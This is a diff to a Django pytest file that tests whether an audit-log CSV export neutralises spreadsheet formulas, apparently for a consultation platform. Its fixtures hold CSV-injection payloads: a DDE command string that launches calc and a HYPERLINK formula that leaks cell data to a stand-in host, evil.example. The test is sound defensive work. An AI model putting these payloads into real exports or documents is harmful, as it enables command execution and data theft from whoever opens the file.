@@ -10,8 +10,7 @@ from django.urls import reverse
 
 from consultations import services
 from consultations.models import Submission, SubmissionState
-from tests.consultations.conftest import make_input
-from tests.factories import OrganisationFactory, country
+from tests.factories import InputFactory, OrganisationFactory, country
 
 pytestmark = pytest.mark.django_db
 
@@ -20,7 +19,7 @@ ANSWERS = {1: "Enhanced cooperation needs every government.", 2: "Each in its ro
 
 def test_it_writes_formulas_in_the_audit_log_csv_as_plain_text(client, consultation, moderator):
     organisation = OrganisationFactory(name="+cmd|' /C calc'!A0", status="verified", country=country("KEN"))
-    sent = make_input(consultation, organisation, ANSWERS, state="submitted")
+    sent = InputFactory(consultation=consultation, organisation=organisation, answers=ANSWERS)
     moderator.email = "-mona@example.org"  # a valid address, and a formula to a spreadsheet
     moderator.save()
     reason = '=HYPERLINK("https://evil.example/?leak="&A1,"Read the guidance")'
@@ -49,8 +48,10 @@ def test_it_writes_formulas_in_the_audit_log_csv_as_plain_text(client, consultat
 @pytest.fixture
 def two_sent(consultation):
     return [
-        make_input(
-            consultation, OrganisationFactory(status="verified", country=country(iso)), ANSWERS, state="submitted"
+        InputFactory(
+            consultation=consultation,
+            organisation=OrganisationFactory(status="verified", country=country(iso)),
+            answers=ANSWERS,
         )
         for iso in ("KEN", "PER")
     ]
